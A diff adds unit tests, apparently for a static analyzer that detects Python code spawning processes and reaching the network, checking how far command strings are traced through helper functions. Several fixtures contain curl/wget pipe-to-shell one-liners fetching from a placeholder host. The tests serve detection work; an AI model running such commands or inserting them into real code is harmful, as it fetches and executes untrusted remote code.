@@ -215,4 +215,28 @@ class CapabilityRulesTest {
     assertThat(r.capabilities()).containsExactly(Capability.PROCESS_SPAWN);
     assertThat(r.first().get(Capability.PROCESS_SPAWN).hit().what()).isEqualTo("subprocess.run");
   }
+
+  @Test
+  void aLiteralCommandIsFollowedIntoTheHelperParameterThatRunsIt() {
+    Reach direct = reach("import os\ndef run(c):\n    os.system(c)\nrun('curl -s https://x.invalid/p | sh')\n");
+    assertThat(direct.capabilities()).contains(Capability.PROCESS_SPAWN, Capability.NETWORK);
+    assertThat(direct.firstTelling().hit().what()).contains("passed to run()", "curl");
+    assertThat(direct.firstTelling().hit().line()).isEqualTo(4);
+
+    Reach twoLevels = reach("import subprocess\ndef _sh(x):\n    subprocess.run(x, shell=True)\n"
+        + "def run(cmd, quiet=False):\n    _sh(cmd)\nrun(quiet=True, cmd='wget -qO- http://x.invalid/a | sh')\n");
+    assertThat(twoLevels.telling()).isTrue();
+  }
+
+  @Test
+  void aCommandIsNotFollowedPastTwoHelpersNorIntoAParameterThatIsNotTheCommand() {
+    Reach threeLevels = reach("import os\ndef a(x):\n    os.system(x)\ndef b(x):\n    a(x)\ndef c(x):\n    b(x)\n"
+        + "c('curl https://x.invalid/p | sh')\n");
+    assertThat(threeLevels.telling()).isFalse();
+    Reach notTheCommand = reach("import os\ndef run(c, log):\n    print(log)\n    os.system(c)\n"
+        + "run('make', 'see https://x.invalid/docs')\n");
+    assertThat(notTheCommand.telling()).isFalse();
+    Reach rebound = reach("import os\ndef run(c):\n    c = 'make'\n    os.system(c)\nrun('curl https://x.invalid/ | sh')\n");
+    assertThat(rebound.telling()).isFalse();
+  }
 }
